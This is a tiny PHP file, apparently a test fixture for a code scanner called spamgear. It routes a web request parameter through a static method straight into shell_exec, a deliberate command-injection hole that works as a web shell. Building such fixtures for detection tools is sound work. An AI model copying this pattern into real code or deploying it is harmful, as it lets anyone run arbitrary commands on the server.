<?php
// Written for spamgear's tests: the request reaches a command through a static
// method (whose parameters are parameters, not globals nobody set).
class Runner {
    public static function go($cmd)
    {
        return shell_exec($cmd . " 2>&1");
    }
}
echo Runner::go($_GET["c"]);
